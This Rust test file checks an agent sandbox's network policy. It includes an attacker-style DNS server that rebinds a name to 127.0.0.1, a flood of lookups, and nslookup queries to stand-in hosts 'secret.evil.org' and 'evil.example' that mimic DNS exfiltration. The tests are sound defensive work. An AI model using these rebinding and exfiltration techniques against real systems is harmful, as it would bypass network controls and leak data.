//! A name server that is the attacker's: it changes its answers, and listens for names that were not meant for it. And a
//! name that leads to an address of this host.
//!
//! Only root can be that name server here, and put it into /etc/resolv.conf, in a mount namespace of the test's own.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in the functions beside it")]

use std::net::{Ipv4Addr, TcpListener, UdpSocket};
use std::process::Command;
use std::sync::{Arc, Mutex, PoisonError};

use agentd_tests::server::{OK, Server};
use agentd_tests::{Feature, Home, require, run};

const GOOD: Ipv4Addr = Ipv4Addr::new(127, 67, 1, 1);

/// The kind of question that asks for an IPv4 address.
const A: u16 = 1;

/// What a name server was asked: names, and the kinds of the questions.
type Asked = Arc<Mutex<Vec<(String, u16)>>>;

/// Answers for `*.test` with [`GOOD`], but for the name `rebind.test`: the second time that is 127.0.0.1. Other names do not
/// exist. Keeps what it was asked.
fn name_server(at: Ipv4Addr) -> Asked {
    let socket = UdpSocket::bind((at, 53)).unwrap();
    let asked = Asked::default();
    let kept = Arc::clone(&asked);
    std::thread::spawn(move || {
        let mut question = [0; 512];
        while let Ok((length, from)) = socket.recv_from(&mut question) {
            let (mut name, mut at) = (String::new(), 12);
            while question[at] != 0 {
                let end = at + 1 + usize::from(question[at]);
                name.push_str(&String::from_utf8_lossy(&question[at + 1..end]));
                name.push('.');
                at = end;
            }
            let kind = u16::from_be_bytes([question[at + 1], question[at + 2]]);
            let is_a = kind == A;
            let mut asked = kept.lock().unwrap_or_else(PoisonError::into_inner);
            let again = name == "rebind.test." && asked.contains(&(name.clone(), A));
            asked.push((name.clone(), kind));
            let exists = name.ends_with(".test.") && !name.contains("nosuch");
            let mut answer = question[..at + 5].to_vec();
            answer[2] = 0x81;
            answer[3] = if exists { 0x80 } else { 0x83 };
            answer[6..12].copy_from_slice(&[0, u8::from(exists && is_a), 0, 0, 0, 0]);
            if exists && is_a {
                answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4]);
                answer.extend(if again { Ipv4Addr::LOCALHOST } else { GOOD }.octets());
            }
            assert!(length > at);
            socket.send_to(&answer, from).unwrap();
        }
    });
    asked
}

/// All that was asked so far, in a line.
fn heard(asked: &Asked) -> String {
    let asked = asked.lock().unwrap_or_else(PoisonError::into_inner);
    asked.iter().map(|(name, kind)| format!("{name}={kind} ")).collect()
}

/// `command` where /etc/resolv.conf names this server, and a search list.
fn asking(home: &Home, at: Ipv4Addr, command: &Command) -> Command {
    let file = home.path().join("resolv.conf");
    std::fs::write(&file, format!("search evil.example\noptions ndots:5\nnameserver {at}\n")).unwrap();
    let script = format!("mount --bind {} /etc/resolv.conf && exec \"$@\"", file.display());
    apart(home, &["sh", "-c", &script, "sh"], command)
}

/// `command` as `words` start it, which are flags of unshare and a program, in a mount namespace of its own.
fn apart(home: &Home, words: &[&str], command: &Command) -> Command {
    let mut apart = Command::new("unshare");
    apart.args(["--mount", "--propagation", "private"]).args(words);
    apart.arg(command.get_program()).args(command.get_args()).current_dir(home.path());
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => apart.env(name, value),
            None => apart.env_remove(name),
        };
    }
    apart
}

const SCRIPT: &str = r#"
say() { wget -q -O - "http://$1:$PORT/" 2>&1 | grep -o -E 'ok|HTTP/1.1 [0-9]+'; }
say rebind.test
n=0; while [ $n -lt 260 ]; do say n$n.flood.test; n=$((n+1)); done | sort -u
say rebind.test; say nosuch.test
for kind in a txt; do nslookup -type=$kind secret.evil.org 2>&1 | grep -q NXDOMAIN && echo nothing; done
nslookup quiet.test 2>&1 | grep -q '^Name:.*quiet.test' && echo known"#;

#[test]
fn escape_an_answer_that_changes_is_judged_anew() {
    if !require(Feature::Userns) || !require(Feature::Root) || !require(Feature::Busybox) {
        return;
    }
    let home = Home::new();
    let at = Ipv4Addr::new(127, 67, 53, 1);
    let asked = name_server(at);
    let listener = TcpListener::bind((GOOD, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let good = Server::on(listener, OK);
    let bad = Server::on(TcpListener::bind((Ipv4Addr::LOCALHOST, port)).unwrap(), OK);
    let attack = |also: &[&str]| {
        let mut command = home.run();
        for rule in [format!("*.test:{port}"), format!("{GOOD}:{port}")] {
            command.args(["--allow", &rule]);
        }
        let image = format!("oci:{}", home.busybox_image().display());
        command.args(also).args(["-q", "--image", &image, "-e", &format!("PORT={port}"), "--", "sh", "-c", SCRIPT]);
        run(&mut asking(&home, at, &command)).stdout
    };
    // In between so many names are looked up that the first answer is forgotten.
    assert_eq!(attack(&[]), "ok\nok\nHTTP/1.1 403\nnothing\nnothing\nknown\n");
    assert_eq!((good.connections(), bad.connections()), (261, 0));
    let first = heard(&asked);
    // Nobody hears of a name who was not asked for it: not what the search list says, nor one that is not allowed or that
    // nobody connects to; and twice what was used twice.
    for unheard in ["evil.example", "evil.org", "quiet.test"] {
        assert!(!first.contains(unheard), "{first}");
    }
    assert!(first.contains("nosuch.test.=1 ") && first.matches("rebind.test.=1 ").count() == 2, "{first}");
    let id = home.jobs()[0]["id"].as_str().map(str::to_owned).unwrap_or_default();
    let told = run(home.agentd().args(["logs", "--net", &id])).expect_success().stdout;
    assert!(told.contains("the name leads to 127.0.0.1, which is the host itself"), "{told}");
    assert!(told.contains("secret.evil.org"), "{told}");
    // With a rule that names the host itself the answer is followed; and a program of the host asks further.
    let named = format!("127.0.0.1:{port}");
    assert_eq!(attack(&["--allow", &named]), "ok\nok\nok\nnothing\nnothing\nknown\n");
    assert!(bad.connections() > 0);
    for (name, code) in [("nosuch.test", 2), ("secret.evil.org", 2), ("quiet.test", 0)] {
        let mut control = Command::new("getent");
        let _ran = run(&mut asking(&home, at, control.args(["ahostsv4", name]))).expect_code(code);
        let all = heard(&asked);
        assert!(all.contains(&format!("{name}.evil.example.=1 ")) && all.contains(&format!(" {name}.=1 ")), "{all}");
    }
}

/// Gives its network an address of the internet, has a name lead there and serves it; then runs what it is told.
const OWN_ADDRESS: &str = "
import http.server, socketserver, subprocess, sys, threading
for words in (['mount', '--bind', sys.argv[1], '/etc/hosts'], ['/bin/busybox', 'ip', 'link', 'set', 'lo', 'up'],
              ['/bin/busybox', 'ip', 'addr', 'add', '9.9.9.9/32', 'dev', 'lo']):
    subprocess.run(words, check=True)
class Says(http.server.BaseHTTPRequestHandler):
    def do_GET(self): self.send_response(200); self.end_headers(); self.wfile.write(b'reached\\n')
    def log_message(self, *words): pass
server = socketserver.TCPServer(('9.9.9.9', 8000), Says)
threading.Thread(target=server.serve_forever, daemon=True).start()
sys.exit(subprocess.run(sys.argv[2:]).returncode)";

/// An address that is nobody's but this host's is refused, though it is no special one.
#[test]
fn escape_a_name_that_leads_to_an_own_address_is_refused() {
    if !require(Feature::Userns) || !require(Feature::Root) || !require(Feature::Busybox) {
        return;
    }
    let home = Home::new();
    let hosts = home.path().join("hosts");
    std::fs::write(&hosts, "9.9.9.9 own.test\n").unwrap();
    let reach = |rules: &[&str]| {
        let mut command = home.run();
        command.args(["-q", "--allow", "own.test:8000"]).args(rules);
        command.args(["--", "curl", "-s", "http://own.test:8000/"]);
        let front = ["--net", "/usr/bin/python3", "-c", OWN_ADDRESS, hosts.to_str().unwrap()];
        run(&mut apart(&home, &front, &command)).expect_success().stdout
    };
    // A network does not name it either.
    for rules in [&[][..], &["--allow", "9.0.0.0/8:8000"]] {
        let said = reach(rules);
        assert!(said.contains("the name leads to 9.9.9.9, which is this host's own address"), "{said}");
    }
    assert_eq!(reach(&["--allow", "9.9.9.9:8000"]), "reached\n");
}
